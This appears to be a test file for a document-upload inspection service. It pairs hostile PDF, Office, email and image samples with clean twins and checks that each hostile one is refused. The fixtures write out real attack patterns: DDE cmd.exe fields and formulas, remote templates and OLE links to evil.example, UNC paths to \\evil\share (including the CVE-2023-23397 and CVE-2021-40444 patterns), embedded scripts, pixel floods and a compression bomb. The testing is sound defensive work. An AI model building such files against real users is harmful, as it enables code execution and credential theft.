// PoE inspection one layer deeper (issue 11, point 4). Every hostile sample has a clean twin
// that differs only by what makes it hostile: the twin is accepted (201), the sample refused
// with a 415 problem+json whose detail names the reason, so the test proves the reason and not
// a side effect. Nothing of a refused upload is stored, and no scratch file (a mail attachment,
// an embedded package written out for inspection) is left behind.
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkLimits } from '../src/documents/file-checks.js';
import { client, dbTargets, m365Claim, seedWorld, testApp, type TestApp, type World } from './harness.js';
import {
  encodeChain,
  flatePngUp,
  lzwEncode,
  makeEml,
  makeHtmlEml,
  makeJpeg,
  makeTiff,
  pdfWithObjectStream,
  plainPdf,
  runLengthBomb,
  writePdf,
  type Filter,
} from './poe-deep-fixtures.js';
import { makeCfb, makeDocx, makeExe, makeMsgFile, makeOoxml, makePdf, makePng } from './poe-fixtures.js';

interface Twin {
  what: string;
  /** File name and bytes of the hostile sample, and of its clean twin. */
  hostile: [string, Buffer];
  clean: [string, Buffer];
  /** What the refusal's detail says. */
  reason: RegExp;
}

const xlsxMain = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
const pptxMain = 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml';
const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const docxWith = (body: string, extra: { name: string; data: Buffer }[] = []) =>
  makeOoxml([
    {
      name: 'word/document.xml',
      data: Buffer.from(`<w:document ${w}><w:body>${body}</w:body></w:document>`),
    },
    ...extra,
  ]);
const relsPart = (name: string, relationships: string) => ({
  name,
  data: Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`,
  ),
});
const docxRel = (type: string, target: string, external = true) =>
  docxWith('<w:p/>', [
    relsPart(
      'word/_rels/document.xml.rels',
      `<Relationship Id="rId1" Type="${rel}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`,
    ),
  ]);
const run = (instr: string) => `<w:r><w:instrText xml:space="preserve">${instr}</w:instrText></w:r>`;
const fld = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const xlsxWith = (parts: { name: string; data: Buffer }[]) =>
  makeOoxml([{ name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') }, ...parts], xlsxMain);
const sheet = (formula: string) => ({
  name: 'xl/worksheets/sheet1.xml',
  data: Buffer.from(
    `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>${formula}</f></c></row></sheetData></worksheet>`,
  ),
});
const slide = (action: string) =>
  makeOoxml(
    [
      {
        name: 'ppt/slides/slide1.xml',
        data: Buffer.from(
          `<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${rel}"><a:hlinkHover r:id="rId1" action="${action}"/></p:sld>`,
        ),
      },
    ],
    pptxMain,
  );

async function twins(): Promise<Twin[]> {
  const pdf = await makePdf('Signed statement of work');
  const docx = await makeDocx('Statement of work');
  const png = makePng(8, 8);
  const chains: Filter[][] = [
    ['ASCIIHexDecode'],
    ['ASCII85Decode'],
    ['LZWDecode'],
    ['RunLengthDecode'],
    ['ASCII85Decode', 'FlateDecode'],
    ['ASCIIHexDecode', 'LZWDecode', 'RunLengthDecode'],
  ];
  const js = '/S /JavaScript /JS (app.alert(1))';
  const goTo = '/S /GoTo /D [3 0 R /Fit]';
  const list: Twin[] = [
    // PDF ------------------------------------------------------------------------------
    ...chains.map((chain): Twin => ({
      what: `a PDF object stream in ${chain.join(' + ')} holding JavaScript`,
      hostile: ['sow.pdf', pdfWithObjectStream(js, chain)],
      clean: ['sow.pdf', pdfWithObjectStream(goTo, chain)],
      reason: /active content \(\/(JavaScript|JS)\)/,
    })),
    {
      what: 'a PDF object stream behind a PNG predictor',
      hostile: [
        'sow.pdf',
        pdfWithObjectStream(js, ['FlateDecode'], {
          parms: '<< /Predictor 12 /Columns 7 >>',
          encode: (b) => flatePngUp(b, 7),
        }),
      ],
      clean: [
        'sow.pdf',
        pdfWithObjectStream(goTo, ['FlateDecode'], {
          parms: '<< /Predictor 12 /Columns 7 >>',
          encode: (b) => flatePngUp(b, 7),
        }),
      ],
      reason: /active content/,
    },
    {
      what: 'a PDF object stream without /Type (found by /N and /First)',
      hostile: ['sow.pdf', withoutType(pdfWithObjectStream(js, ['LZWDecode']))],
      clean: ['sow.pdf', withoutType(pdfWithObjectStream(goTo, ['LZWDecode']))],
      reason: /active content/,
    },
    {
      what: 'a PDF object stream in an image codec (cannot be decoded)',
      hostile: ['sow.pdf', pdfWithObjectStream(goTo, [], { encode: (b) => b, writtenFilter: '/DCTDecode' })],
      clean: ['sow.pdf', pdfWithObjectStream(goTo, ['FlateDecode'])],
      reason: /cannot be decoded/,
    },
    {
      what: 'a PDF object stream whose data is not what its filter says',
      hostile: ['sow.pdf', pdfWithObjectStream(goTo, ['FlateDecode'], { encode: (b) => lzwEncode(b) })],
      clean: ['sow.pdf', pdfWithObjectStream(goTo, ['LZWDecode'])],
      reason: /cannot be decoded/,
    },
    {
      what: 'an encrypted PDF',
      hostile: [
        'sow.pdf',
        plainPdf('', ['<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>'], '/Encrypt 4 0 R'),
      ],
      clean: ['sow.pdf', plainPdf('', ['<< /Producer (Writer) >>'], '/Info 4 0 R')],
      reason: /Encrypted PDFs are refused/,
    },
    {
      what: 'a PDF stream in the Crypt filter',
      hostile: ['sow.pdf', plainPdf('', [{ dict: '/Filter /Crypt', data: Buffer.from('x') }])],
      clean: [
        'sow.pdf',
        plainPdf('', [
          { dict: '/Filter /FlateDecode', data: encodeChain(Buffer.from('x'), ['FlateDecode']) },
        ]),
      ],
      reason: /Encrypted PDFs are refused/,
    },
    {
      what: 'a PDF stream in a filter that is not standard',
      hostile: ['sow.pdf', plainPdf('', [{ dict: '/Filter /SecretDecode', data: Buffer.from('x') }])],
      clean: ['sow.pdf', plainPdf('', [{ dict: '/Filter /ASCIIHexDecode', data: Buffer.from('78>') }])],
      reason: /not standard/,
    },
    {
      what: 'a PDF stream whose data lives in another file',
      hostile: [
        'sow.pdf',
        plainPdf('', [{ dict: '/F (\\\\\\\\evil\\\\share\\\\x.bin)', data: Buffer.alloc(0) }]),
      ],
      clean: ['sow.pdf', plainPdf('', [{ dict: '/Subtype /XML', data: Buffer.from('<x/>') }])],
      reason: /another file/,
    },
    {
      what: 'a PDF whose "stream" keyword inside a string hides JavaScript from a naive scanner',
      hostile: [
        'sow.pdf',
        plainPdf('/Names (a >> stream\n) /OpenAction << /S /JavaScript /JS (x) >> /X (endstream)'),
      ],
      clean: [
        'sow.pdf',
        plainPdf('/Names (a >> stream\n) /OpenAction << /S /GoTo /D [3 0 R /Fit] >> /X (endstream)'),
      ],
      reason: /active content/,
    },
    {
      what: 'a PDF that hides an object inside stream data (a cross-reference can point there)',
      hostile: [
        'sow.pdf',
        plainPdf('', [{ dict: '', data: Buffer.from('q 1 0 0 1 0 0 cm Q\n7 0 obj << /S /URI >> endobj\n') }]),
      ],
      clean: [
        'sow.pdf',
        plainPdf('', [{ dict: '', data: Buffer.from('q 1 0 0 1 0 0 cm Q\n7 0 ob << /S /URI >> endob\n') }]),
      ],
      reason: /hides an object/,
    },
    {
      what: 'a PDF that hides an object inside a string',
      hostile: ['sow.pdf', plainPdf('/Lang (en 12 0 obj)')],
      clean: ['sow.pdf', plainPdf('/Lang (en-US)')],
      reason: /hides an object/,
    },
    {
      what: 'a PDF with a file attachment annotation (/EF without /EmbeddedFile)',
      hostile: [
        'sow.pdf',
        plainPdf('', ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', { dict: '', data: makeExe() }]),
      ],
      clean: [
        'sow.pdf',
        plainPdf('', ['<< /Type /Filespec /F (a.pdf) >>', { dict: '', data: Buffer.from('plain') }]),
      ],
      reason: /active content \(\/EF\)/,
    },
    {
      what: 'a PDF whose name is fully #-escaped (longer than 32 characters)',
      hostile: [
        'sow.pdf',
        plainPdf('/Names << /#45#6D#62#65#64#64#65#64#46#69#6C#65#73 4 0 R >>', ['<< >>']),
      ],
      clean: ['sow.pdf', plainPdf('/Names << /#44#65#73#74#73 4 0 R >>', ['<< >>'])],
      reason: /active content \(\/EmbeddedFiles\)/,
    },
    // OOXML ----------------------------------------------------------------------------
    {
      what: 'a DOCX loading a remote template (attachedTemplate, TargetMode External)',
      hostile: ['sow.docx', docxRel('attachedTemplate', 'https://evil.example/t.dotm')],
      clean: ['sow.docx', docxRel('hyperlink', 'https://contoso.example/sow')],
      reason: /load a template from outside/,
    },
    {
      what: 'a DOCX with the mhtml: OLE pattern (CVE-2021-40444)',
      hostile: [
        'sow.docx',
        docxRel('oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html'),
      ],
      clean: ['sow.docx', docxRel('hyperlink', 'mailto:chris@contoso.example')],
      reason: /mhtml/,
    },
    {
      what: 'a DOCX with an external OLE object',
      hostile: ['sow.docx', docxRel('oleObject', 'http://evil.example/o.bin')],
      clean: ['sow.docx', docxRel('hyperlink', 'http://contoso.example/o')],
      reason: /an OLE object from outside/,
    },
    {
      what: 'a DOCX with an external frame',
      hostile: ['sow.docx', docxRel('frame', 'https://evil.example/frame.html')],
      clean: ['sow.docx', docxRel('hyperlink', 'https://contoso.example/frame.html')],
      reason: /a frame from outside/,
    },
    {
      what: 'a DOCX with an external subdocument',
      hostile: ['sow.docx', docxRel('subDocument', '\\\\evil\\share\\sub.docx')],
      clean: ['sow.docx', docxRel('subDocument', 'sub.docx', false)],
      reason: /a subdocument from outside/,
    },
    {
      what: 'a DOCX with a picture linked from a UNC path',
      hostile: ['sow.docx', docxRel('image', 'file://evil/share/pixel.png')],
      clean: ['sow.docx', docxRel('image', 'media/image1.png', false)],
      reason: /a linked picture from outside/,
    },
    {
      what: 'a DOCX hyperlink that opens a program',
      hostile: ['sow.docx', docxRel('hyperlink', 'file:///C:/Windows/System32/cmd.exe')],
      clean: ['sow.docx', docxRel('hyperlink', 'https://contoso.example/cmd')],
      reason: /hyperlinks that open files or programs/,
    },
    {
      what: 'a DOCX with an OLE object under embeddings/',
      hostile: [
        'sow.docx',
        docxWith('<w:p/>', [
          { name: 'word/embeddings/oleObject1.bin', data: makeCfb(['\u0001Ole10Native']) },
        ]),
      ],
      clean: ['sow.docx', docxWith('<w:p/>', [{ name: 'word/embeddings/image1.png', data: png }])],
      reason: /embedded OLE objects/,
    },
    {
      what: 'a DOCX with a non-image part under embeddings/',
      hostile: [
        'sow.docx',
        docxWith('<w:p/>', [{ name: 'word/embeddings/payload.js', data: Buffer.from('WScript.Shell') }]),
      ],
      clean: [
        'sow.docx',
        docxWith('<w:p/>', [{ name: 'word/embeddings/picture.jpeg', data: makeJpeg(8, 8) }]),
      ],
      reason: /embedded objects other than pictures/,
    },
    {
      what: 'a DOCX embedding a workbook with a DDE link (inspected like an upload)',
      hostile: [
        'sow.docx',
        docxWith('<w:p/>', [
          {
            name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx',
            data: xlsxWith([sheet("cmd|' /C calc'!A0")]),
          },
        ]),
      ],
      clean: [
        'sow.docx',
        docxWith('<w:p/>', [
          { name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: xlsxWith([sheet('SUM(A1:A2)')]) },
        ]),
      ],
      reason: /embedded file word\/embeddings\/Microsoft_Excel_Worksheet\.xlsx.*DDE/,
    },
    {
      what: 'a DOCX with a DDEAUTO simple field',
      hostile: [
        'sow.docx',
        docxWith(
          '<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/>',
        ),
      ],
      clean: ['sow.docx', docxWith('<w:fldSimple w:instr=" PAGE "/>')],
      reason: /DDE/,
    },
    {
      what: 'a DOCX with DDE split across runs and entity-escaped',
      hostile: [
        'sow.docx',
        docxWith(`<w:p>${fld('begin')}${run(' D')}${run('&#68;E')}${run('AUTO cmd.exe')}${fld('end')}</w:p>`),
      ],
      clean: [
        'sow.docx',
        docxWith(`<w:p>${fld('begin')}${run(' P')}${run('&#65;G')}${run('E')}${fld('end')}</w:p>`),
      ],
      reason: /DDE/,
    },
    {
      what: 'a DOCX field whose type is computed by a nested field',
      hostile: [
        'sow.docx',
        docxWith(
          `<w:p>${fld('begin')}${fld('begin')}${run('QUOTE 68 68 69')}${fld('end')}${run(' cmd')}${fld('end')}</w:p>`,
        ),
      ],
      clean: [
        'sow.docx',
        docxWith(
          `<w:p>${fld('begin')}${run('IF ')}${fld('begin')}${run('PAGE')}${fld('end')}${run(' = 1 "a" "b"')}${fld('end')}</w:p>`,
        ),
      ],
      reason: /computed by another field/,
    },
    {
      what: 'a DOCX field including a remote picture',
      hostile: [
        'sow.docx',
        docxWith('<w:fldSimple w:instr=\'INCLUDEPICTURE "http://evil.example/p.png" \\d\'/>'),
      ],
      clean: ['sow.docx', docxWith('<w:fldSimple w:instr=\'INCLUDEPICTURE "C:\\\\pics\\\\p.png"\'/>')],
      reason: /load a file from elsewhere \(INCLUDEPICTURE\)/,
    },
    {
      what: 'a DOCX part with a DTD',
      hostile: [
        'sow.docx',
        makeOoxml([
          {
            name: 'word/document.xml',
            data: Buffer.from(`<!DOCTYPE x [<!ENTITY a "b">]><w:document ${w}/>`),
          },
        ]),
      ],
      clean: [
        'sow.docx',
        makeOoxml([
          { name: 'word/document.xml', data: Buffer.from(`<?xml version="1.0"?><w:document ${w}/>`) },
        ]),
      ],
      reason: /DTD/,
    },
    {
      what: 'an XLSX link to a DDE server (externalLinks/ddeLink)',
      hostile: [
        'usage.xlsx',
        xlsxWith([
          {
            name: 'xl/externalLinks/externalLink1.xml',
            data: Buffer.from('<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
          },
        ]),
      ],
      clean: ['usage.xlsx', xlsxWith([{ name: 'xl/styles.xml', data: Buffer.from('<styleSheet/>') }])],
      reason: /DDE/,
    },
    {
      what: 'an XLSX formula calling a DDE server',
      hostile: ['usage.xlsx', xlsxWith([sheet("cmd|' /C calc'!A0")])],
      clean: ['usage.xlsx', xlsxWith([sheet('CONCAT("a|b", A1)')])],
      reason: /DDE/,
    },
    {
      what: 'a PPTX action that runs a program on mouse-over',
      hostile: ['deck.pptx', slide('ppaction://program')],
      clean: ['deck.pptx', slide('ppaction://hlinkshowjump?jump=nextslide')],
      reason: /run a program or a macro/,
    },
    // Email ----------------------------------------------------------------------------
    {
      what: 'an EML attaching a program named .pdf',
      hostile: ['mail.eml', makeEml([{ type: 'application/pdf', name: 'invoice.pdf', data: makeExe() }])],
      clean: ['mail.eml', makeEml([{ type: 'application/pdf', name: 'invoice.pdf', data: pdf }])],
      reason: /Attachment 1 of the email \(invoice\.pdf\) is refused: Programs are refused/,
    },
    {
      what: 'an EML attaching text named .bat',
      hostile: [
        'mail.eml',
        makeEml([{ type: 'application/octet-stream', name: 'run.bat', data: 'echo hi\r\n' }]),
      ],
      clean: [
        'mail.eml',
        makeEml([{ type: 'application/octet-stream', name: 'run.txt', data: 'echo hi\r\n' }]),
      ],
      reason: /run\.bat.*"\.bat"/,
    },
    {
      what: 'an EML attaching a DOCX with an external template',
      hostile: [
        'mail.eml',
        makeEml([
          {
            type: 'application/octet-stream',
            name: 'sow.docx',
            data: docxRel('attachedTemplate', 'https://evil.example/t.dotm'),
          },
        ]),
      ],
      clean: ['mail.eml', makeEml([{ type: 'application/octet-stream', name: 'sow.docx', data: docx }])],
      reason: /sow\.docx.*template/,
    },
    {
      what: 'an EML whose base64 HTML body runs a script',
      hostile: [
        'mail.eml',
        makeHtmlEml('<html><body><script>alert(1)</script>Approved</body></html>', 'base64'),
      ],
      clean: ['mail.eml', makeHtmlEml('<html><body><b>Approved</b></body></html>', 'base64')],
      reason: /runs scripts/,
    },
    {
      what: 'an EML whose quoted-printable HTML hides a script across soft line breaks',
      hostile: [
        'mail.eml',
        makeHtmlEml('<html><body><script>alert(1)</script>Approved</body></html>', 'quoted-printable'),
      ],
      clean: [
        'mail.eml',
        makeHtmlEml('<html><body><i>alert(1)</i>Approved</body></html>', 'quoted-printable'),
      ],
      reason: /runs scripts/,
    },
    {
      what: 'an EML forwarding an EML that attaches a program',
      hostile: [
        'mail.eml',
        makeEml([
          {
            type: 'message/rfc822',
            name: 'fwd.eml',
            data: makeEml([{ type: 'application/octet-stream', name: 'a.pdf', data: makeExe() }], 'Inner'),
          },
        ]),
      ],
      clean: [
        'mail.eml',
        makeEml([
          {
            type: 'message/rfc822',
            name: 'fwd.eml',
            data: makeEml([{ type: 'application/octet-stream', name: 'a.pdf', data: pdf }], 'Inner'),
          },
        ]),
      ],
      reason: /Programs are refused/,
    },
    {
      what: 'emails nested deeper than the limit',
      hostile: ['mail.eml', nestedEml(checkLimits.nestingDepth + 1)],
      clean: ['mail.eml', nestedEml(checkLimits.nestingDepth)],
      reason: /nested more than 3 deep/,
    },
    {
      what: 'an MSG attaching a program named .pdf',
      hostile: [
        'mail.msg',
        makeMsgFile({ subject: 'SOW', attachments: [{ name: 'sow.pdf', data: makeExe() }] }),
      ],
      clean: ['mail.msg', makeMsgFile({ subject: 'SOW', attachments: [{ name: 'sow.pdf', data: pdf }] })],
      reason: /Attachment 1 of the Outlook message \(sow\.pdf\) is refused: Programs/,
    },
    {
      what: 'an MSG attachment by reference (a UNC path)',
      hostile: [
        'mail.msg',
        makeMsgFile({
          subject: 'SOW',
          attachments: [{ name: 'sow.pdf', method: 2, pathname: '\\\\evil\\share\\sow.pdf' }],
        }),
      ],
      clean: ['mail.msg', makeMsgFile({ subject: 'SOW', attachments: [{ name: 'sow.pdf', data: pdf }] })],
      reason: /links to a file instead of attaching it/,
    },
    {
      what: 'an MSG with an OLE attachment',
      hostile: [
        'mail.msg',
        makeMsgFile({
          subject: 'SOW',
          attachments: [{ name: 'obj', method: 6, data: makeCfb(['\u0001Ole10Native']) }],
        }),
      ],
      clean: ['mail.msg', makeMsgFile({ subject: 'SOW', attachments: [{ name: 'sow.docx', data: docx }] })],
      reason: /embedded OLE objects/,
    },
    {
      what: 'an MSG whose reminder plays a sound from a UNC path (CVE-2023-23397)',
      hostile: ['mail.msg', makeMsgFile({ subject: 'Meeting', reminderFile: '\\\\evil\\share\\a.wav' })],
      clean: ['mail.msg', makeMsgFile({ subject: 'Meeting' })],
      reason: /reminder plays a sound/,
    },
    {
      what: 'an MSG whose HTML body runs a script',
      hostile: ['mail.msg', makeMsgFile({ subject: 'SOW', html: '<html><script>alert(1)</script></html>' })],
      clean: ['mail.msg', makeMsgFile({ subject: 'SOW', html: '<html><p>Approved</p></html>' })],
      reason: /runs scripts/,
    },
    {
      what: 'an MSG attaching an Outlook item that attaches a program',
      hostile: [
        'mail.msg',
        makeMsgFile({
          subject: 'Fwd',
          attachments: [{ message: { subject: 'Inner', attachments: [{ name: 'a.pdf', data: makeExe() }] } }],
        }),
      ],
      clean: [
        'mail.msg',
        makeMsgFile({
          subject: 'Fwd',
          attachments: [{ message: { subject: 'Inner', attachments: [{ name: 'a.pdf', data: pdf }] } }],
        }),
      ],
      reason:
        /Outlook message is refused: Attachment 1 of the Outlook message \(a\.pdf\) is refused: Programs/,
    },
    // Images ---------------------------------------------------------------------------
    {
      what: 'a JPEG pixel flood (frame header 60000 x 60000)',
      hostile: ['scan.jpg', makeJpeg(16, 16, { claim: [60000, 60000] })],
      clean: ['scan.jpg', makeJpeg(16, 16)],
      reason: /JPEG claims 60000 x 60000 pixels/,
    },
    {
      what: 'a JPEG with a second frame header after its scan',
      hostile: ['scan.jpg', makeJpeg(16, 16, { secondFrame: [65000, 65000] })],
      clean: ['scan.jpg', makeJpeg(16, 16, { secondFrame: [16, 16] })],
      reason: /frame 2/,
    },
    {
      what: 'a TIFF pixel flood',
      hostile: ['scan.tif', makeTiff([[200_000, 200_000]])],
      clean: ['scan.tif', makeTiff([[64, 32]])],
      reason: /TIFF claims 200000 x 200000 pixels/,
    },
    {
      what: 'a TIFF whose second page is a pixel flood',
      hostile: [
        'scan.tif',
        makeTiff([
          [64, 32],
          [100_000, 100_001],
        ]),
      ],
      clean: [
        'scan.tif',
        makeTiff([
          [64, 32],
          [32, 64],
        ]),
      ],
      reason: /page 2/,
    },
    {
      what: 'a TIFF whose pages point back at each other',
      hostile: [
        'scan.tif',
        makeTiff(
          [
            [64, 32],
            [32, 64],
          ],
          { loop: true },
        ),
      ],
      clean: [
        'scan.tif',
        makeTiff([
          [64, 32],
          [32, 64],
        ]),
      ],
      reason: /point back/,
    },
  ];
  return list;
}

/** The object stream without its /Type: readers find it by /N and /First all the same. */
function withoutType(pdf: Buffer): Buffer {
  return Buffer.from(pdf.toString('latin1').replace('/Type /ObjStm', '             '), 'latin1');
}

/** An email attaching an email attaching an email..., `depth` levels below the upload. */
function nestedEml(depth: number): Buffer {
  let inner = makeEml([], 'Level bottom');
  for (let level = depth; level >= 1; level--)
    inner = makeEml(
      [{ type: 'application/octet-stream', name: `level${level}.eml`, data: inner }],
      `Level ${level}`,
    );
  return inner;
}

describe.each(dbTargets())('PoE inspection one layer deeper on %s', (target) => {
  let t: TestApp;
  let world: World;
  let claimId: string;
  beforeAll(async () => {
    t = await testApp(target, { env: { CPOR_MAX_DOCUMENTS_PER_CLAIM: '1000' } });
    world = await seedWorld(t);
    const res = await client(t.app, world.tokens.partnerA).post('/api/v1/claims', m365Claim());
    claimId = res.json<{ id: string }>().id;
  });
  afterAll(async () => t?.close());

  it('refuses each hostile sample for its reason and accepts its clean twin', async () => {
    const partner = client(t.app, world.tokens.partnerA);
    const url = `/api/v1/claims/${claimId}/documents`;
    const cases = await twins();
    for (const c of cases) {
      const bad = await partner.upload(url, c.hostile[0], c.hostile[1]);
      expect({ what: c.what, status: bad.statusCode, body: bad.body.slice(0, 400) }).toMatchObject({
        what: c.what,
        status: 415,
      });
      expect(bad.headers['content-type'], c.what).toContain('application/problem+json');
      const problem = bad.json<{ code: string; detail: string }>();
      expect(problem.code, c.what).toBe('unsupported_media_type');
      expect(problem.detail, c.what).toMatch(c.reason);
      const good = await partner.upload(url, c.clean[0], c.clean[1]);
      expect({
        what: `twin of ${c.what}`,
        status: good.statusCode,
        body: good.body.slice(0, 400),
      }).toMatchObject({
        what: `twin of ${c.what}`,
        status: 201,
      });
      // Twins may repeat each other's bytes: removed so the next one is not a duplicate.
      await partner.delete(`${url}/${good.json<{ id: string }>().id}`);
    }
    // Nothing refused was kept, no scratch file was left behind.
    const history = (await partner.get(`/api/v1/claims/${claimId}/history?limit=200`)).json<{
      items: { type: string }[];
      nextCursor: string | null;
    }>();
    expect(history.nextCursor).toBeNull();
    const added = history.items.filter((h) => h.type === 'document_added');
    expect(added).toHaveLength(cases.length);
    expect(await readdir(join(t.deps.config.CPOR_DATA_DIR, 'uploads'))).toEqual([]);
    console.log(
      `deep PoE corpus: ${cases.length} hostile samples refused, ${cases.length} clean twins accepted`,
    );
  });

  it('refuses an object stream past the size limit, and a decoding bomb, instead of skipping them', async () => {
    const partner = client(t.app, world.tokens.partnerA);
    const url = `/api/v1/claims/${claimId}/documents`;
    const saved = { ...checkLimits };
    try {
      checkLimits.pdfObjectStreamBytes = 64 * 1024;
      checkLimits.pdfDecodedBytes = 4 * 1024 * 1024;
      const goTo = '/S /GoTo /D [3 0 R /Fit]';
      const big = pdfWithObjectStream(goTo, ['ASCIIHexDecode'], {
        encode: (b) =>
          Buffer.concat([Buffer.from(b.toString('hex')), Buffer.alloc(70 * 1024, 0x20), Buffer.from('>')]),
      });
      const res = await partner.upload(url, 'big.pdf', big);
      expect(res.statusCode, res.body).toBe(415);
      expect(res.json<{ detail: string }>().detail).toMatch(
        /larger than 0\.0625 MiB; it is refused rather than left unread/,
      );
      const small = pdfWithObjectStream(goTo, ['ASCIIHexDecode']);
      expect((await partner.upload(url, 'small.pdf', small)).statusCode).toBe(201);
      checkLimits.pdfObjectStreamBytes = 1024 * 1024;
      const bomb = writePdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [] /Count 0 >>',
        '<< >>',
        {
          dict: '/Type /ObjStm /N 1 /First 4 /Filter /RunLengthDecode',
          data: runLengthBomb(8 * 1024 * 1024),
        },
      ]);
      const refused = await partner.upload(url, 'bomb.pdf', bomb);
      expect(refused.statusCode, refused.body).toBe(415);
      expect(refused.json<{ detail: string }>().detail).toMatch(/compression bomb/);
    } finally {
      Object.assign(checkLimits, saved);
    }
  });
});
